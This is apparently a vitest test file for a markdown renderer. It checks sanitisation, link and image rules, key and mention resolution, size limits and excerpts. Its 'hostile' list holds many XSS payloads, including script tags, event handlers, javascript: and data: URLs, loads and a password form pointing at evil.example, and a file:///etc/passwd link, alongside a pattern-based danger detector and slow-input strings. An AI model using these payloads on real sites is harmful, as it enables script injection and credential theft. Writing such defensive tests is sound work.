import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { plainText, renderMarkdown, type MarkdownOptions } from './markdown'

const draw = (source: string, options?: MarkdownOptions) =>
  renderToStaticMarkup(renderMarkdown(source, options))

// What a hostile colleague, customer or imported archive might write.
const hostile = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<form action="https://evil.example"><input name=password></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=https://evil.example/x.mp3 autoplay>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1)>click</x>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](< javascript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#x3a;alert(1))',
  '[x](jav\u0000ascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](\u202ejavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](DATA:image/svg+xml,<svg/onload=alert(1)>)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](ftp://evil.example)',
  '[x](view-source:javascript:alert(1))',
  '[x](feed:javascript:alert(1))',
  '[x](intent://evil#Intent;scheme=javascript;end)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](/.//evil.example)',
  '[x](/\t/evil.example)',
  '[x](https://daylight.example@evil.example)',
  '[x](https://user:word@evil.example)',
  '[x](http://[::bad)',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example" onmouseover="alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x]\n\n[x]: <data:text/html,1> "t"',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](/api/v1/files/../../../signout)',
  '![x](/api/v1/files/%2e%2e/%2e%2e/signout)',
  '![x](/api/v1/files/..%2f..%2fsignout)',
  '![x](/api/v1/files\\..\\..\\signout)',
  '![x](https://evil.example/api/v1/files/1)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '![x][r]\n\n[r]: https://evil.example/pixel.png "onload=alert(1)"',
  '[![x](https://evil.example/pixel.png)](javascript:alert(1))',
  '[![x](javascript:alert(1))](https://evil.example)',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1) style=x\ncode\n```',
  '`<script>alert(1)</script>`',
  '~~~ "><img/src/onerror=alert(1)>\nx\n~~~',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '- [x] <input onfocus=alert(1) autofocus>',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))',
  'x[^__proto__]\n\n[^__proto__]: y',
  'x[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: y',
  '[x]: /y "z"\n[constructor]: javascript:alert(1)\n\n[constructor] [x]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<script>alert(1)\\</script>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  '@<script>alert(1)</script> SEC-1<script>',
]

const VOID_OR_PLAIN =
  /^(p|br|hr|blockquote|pre|code|em|strong|del|a|img|sup|section|h[2-6]|ul|ol|li|input|table|thead|tbody|tr|th|td)$/

/** Reads the tags back from the page as a browser would see them and names all that must not be there. */
function dangers(html: string): string[] {
  const found: string[] = []
  for (const [, name = '', attributes = ''] of html.matchAll(
    /<\/?([^\s>/]+)((?:\s+[^\s=>"/]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    if (!VOID_OR_PLAIN.test(name)) found.push(`element ${name}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=]+)="([^"]*)"/g)) {
      if (/^on|^style$|^srcset$|^srcdoc$|^action$|^name$|^title$/i.test(attribute)) found.push(attribute)
      if (attribute === 'src' && !/^\/api\/v1\/files\/(?!.*(\.\.|%2e|%2f))/i.test(value))
        found.push(`src ${value}`)
      // Somebody's name before the host leads astray; an @ in the path behind it does not.
      if (attribute === 'href' && !/^(https?:\/\/[^@/?#\\]*([/?#\\]|$)|mailto:|#|\/(?![/\\]))/.test(value))
        found.push(`href ${value}`)
      if (
        attribute === 'class' &&
        !/^(|language-\S+|sr-only|task-list-item|contains-task-list)$/.test(value)
      ) {
        found.push(`class ${value}`)
      }
    }
  }
  // A `<` that opens no tag we know of above would have escaped the reading.
  const rest = html.replace(/<\/?[^\s>/]+(?:\s+[^\s=>"/]+(?:="[^"]*")?)*\s*\/?>/g, '')
  if (rest.includes('<')) found.push('stray <')
  return found
}

describe('what hostile people write', () => {
  test.each(hostile)('%j draws nothing that runs, loads from elsewhere or leads astray', (source) => {
    expect(dangers(draw(source))).toEqual([])
    const known = { resolve: ({ text }: { text: string }) => ({ href: `/items/${text}`, label: text }) }
    expect(dangers(draw(source, known))).toEqual([])
    expect(dangers(draw(`> 1. ${source.replaceAll('\n', '\n>    ')}`))).toEqual([])
  })

  test('the check itself sees what it should see', () => {
    expect(dangers('<img src="https://evil.example/x" onerror="alert(1)"/>')).toHaveLength(2)
    expect(dangers('<script>x</script>')).not.toEqual([])
    expect(dangers('<a href="javascript:alert(1)">x</a>')).toEqual(['href javascript:alert(1)'])
    expect(dangers('<p style="color:red">x</p>')).toEqual(['style'])
  })

  test('pieces of it in any order are as harmless', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('\n\n', '[', '](', '<', '> ', '- ', '`'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(dangers(draw(pieces.join('')))).toEqual([])
      }),
      { numRuns: 150 },
    )
  })

  test('an @ behind the host is a part of the path, and one before it is no link', () => {
    expect(dangers(draw('[<link rel=stylesheet href=https://evil.example/x.css>@'))).toEqual([])
    expect(dangers('<a href="https://bank.example@evil.example/">x</a>')).toHaveLength(1)
  })

  test('a resolver that answers with a script address gets no link either', () => {
    const html = draw('SEC-1', { resolve: () => ({ href: 'javascript:alert(1)', label: 'SEC-1' }) })
    expect(html).toBe('<p>SEC-1</p>')
  })
})

describe('what people write', () => {
  test('raw HTML is shown as the text it is', () => {
    expect(draw('<b>bold</b>?')).toBe('<p>&lt;b&gt;bold&lt;/b&gt;?</p>')
    expect(draw('<div>\nx\n</div>')).toContain('&lt;div&gt;')
  })

  test('headings step down so that the page keeps its only h1', () => {
    expect(draw('# One\n\n###### Six')).toBe('<h2>One</h2>\n<h6>Six</h6>')
  })

  test('links to elsewhere say nothing about where one came from, links to our pages stay plain', () => {
    expect(draw('[x](https://example.org/a)')).toBe(
      '<p><a href="https://example.org/a" rel="noopener noreferrer nofollow">x</a></p>',
    )
    expect(draw('[x](/items/SEC-1?a=b#c)')).toBe('<p><a href="/items/SEC-1?a=b#c">x</a></p>')
    expect(draw('<security@example.org>')).toContain('href="mailto:security@example.org"')
    expect(draw('[x](somewhere)')).toBe('<p>x</p>')
  })

  test('our own pictures are drawn, others become a link that has to be followed on purpose', () => {
    expect(draw('![plan](/api/v1/files/abc)')).toBe(
      '<p><img src="/api/v1/files/abc" alt="plan" loading="lazy"/></p>',
    )
    expect(draw('![plan](https://example.org/p.png)')).toContain('<a href="https://example.org/p.png"')
    expect(draw('![](https://example.org/p.png)')).toContain('>https://example.org/p.png</a>')
    expect(draw('[![plan](https://example.org/p.png)](https://example.org)')).not.toContain('p.png')
  })

  test('tables, tasks, code, footnotes and strikes are drawn', () => {
    expect(draw('| a | b |\n|--:|:-:|\n| 1 | 2 |')).toContain('<td align="right">1</td>')
    expect(draw('- [x] done')).toContain('type="checkbox" disabled="" checked=""')
    expect(draw('```c++\nx < y\n```')).toBe('<pre><code class="language-c++">x &lt; y\n</code></pre>')
    expect(draw('~~no~~')).toContain('<del>no</del>')
    const note = draw('x[^a]\n\n[^a]: why', { id: 'c-7' })
    expect(note).toContain('href="#c-7-fn-a"')
    expect(note).toContain('id="c-7-fn-a"')
    expect(note).toContain('aria-describedby="c-7-footnote-label"')
    expect(note).toContain('id="c-7-footnote-label"')
  })
})

describe('keys and mentions', () => {
  const seen = new Map([
    ['SEC-12', { href: '/items/SEC-12', label: 'SEC-12' }],
    ['REQ-4', { href: '/requests/4', label: 'REQ-4' }],
    ['alex.k', { href: '/people/alex', label: '@alex.k' }],
  ])
  const resolve: MarkdownOptions['resolve'] = ({ text }) => seen.get(text) ?? null

  test('become links when the viewer may see what they name', () => {
    expect(draw('See SEC-12, (REQ-4) and @alex.k.', { resolve })).toBe(
      '<p>See <a href="/items/SEC-12">SEC-12</a>, (<a href="/requests/4">REQ-4</a>) and <a href="/people/alex">@alex.k</a>.</p>',
    )
  })

  test('stay the text they were when not, exactly as a key that never existed', () => {
    expect(draw('SEC-13 and SEC-999999 @nobody', { resolve })).toBe('<p>SEC-13 and SEC-999999 @nobody</p>')
    expect(draw('SEC-12')).toBe('<p>SEC-12</p>')
  })

  test('are left alone in code, links, addresses and longer words', () => {
    const asked: string[] = []
    const source =
      '`SEC-12` [SEC-12](https://example.org) https://example.org/SEC-12 XSEC-12x a@alex.k SEC-12-old\n\n    SEC-12'
    draw(source, { resolve: ({ text }) => (asked.push(text), null) })
    expect(asked).toEqual([])
  })
})

describe('limits', () => {
  test('a text beyond 100,000 characters is shown as it was typed', () => {
    expect(draw('*a* '.repeat(25_001))).toMatch(/^<pre>\*a\* /)
    expect(draw(`${'word '.repeat(19_999)}*a*`)).toContain('<em>a</em>')
  })

  test('nesting beyond what anybody writes is shown as it was typed', () => {
    expect(draw(`${'> '.repeat(10)}x`)).toContain('<blockquote>')
    expect(draw(`${'>'.repeat(5_000)}x`)).toMatch(/^<pre>/)
    expect(draw(Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'))).toMatch(
      /^<pre>/,
    )
    expect(draw('*a '.repeat(60) + 'b* '.repeat(60))).toMatch(/^<pre>/)
  })

  test('texts that are built to be slow or to grow are answered soon', () => {
    const slow = [
      '['.repeat(100_000),
      '![a]('.repeat(20_000),
      '*a **b '.repeat(14_000),
      '- a\n  - b\n'.repeat(10_000),
      '> > > > > > > > > a\n\n'.repeat(4_000),
      `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|\n'.repeat(5_000)}`,
      '<a '.repeat(33_000),
      '<!--'.repeat(25_000),
    ]
    for (const source of slow) {
      const start = performance.now()
      const html = draw(source)
      // Generous, because test machines are busy; without the limits these take minutes or all memory.
      expect(performance.now() - start).toBeLessThan(10_000)
      expect(html.length).toBeLessThan(1_000_000)
    }
  }, 60_000)
})

describe('excerpts', () => {
  test('are the words without their marks, on one line', () => {
    expect(
      plainText('# Title\n\nSome **bold** `code` and [a link](https://example.org).\n\n- one\n- two', 200),
    ).toBe('Title Some bold code and a link. one two')
    expect(plainText('<b>x</b> ![plan](/api/v1/files/1)', 50)).toBe('<b>x</b> plan')
  })

  test('end with a sentence when one fits, else with a whole word', () => {
    expect(plainText('First thing. Second thing that is longer.', 20)).toBe('First thing.')
    expect(plainText('Version 1.2 of the thing is out now', 20)).toBe('Version 1.2 of the…')
    expect(plainText('Donaudampfschifffahrt', 10)).toBe('Donaudamp…')
  })

  test('never exceed their length', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 120 }),
        fc.integer({ min: 1, max: 60 }),
        (text, max) => {
          expect(plainText(text, max).length).toBeLessThanOrEqual(max)
        },
      ),
    )
  })
})
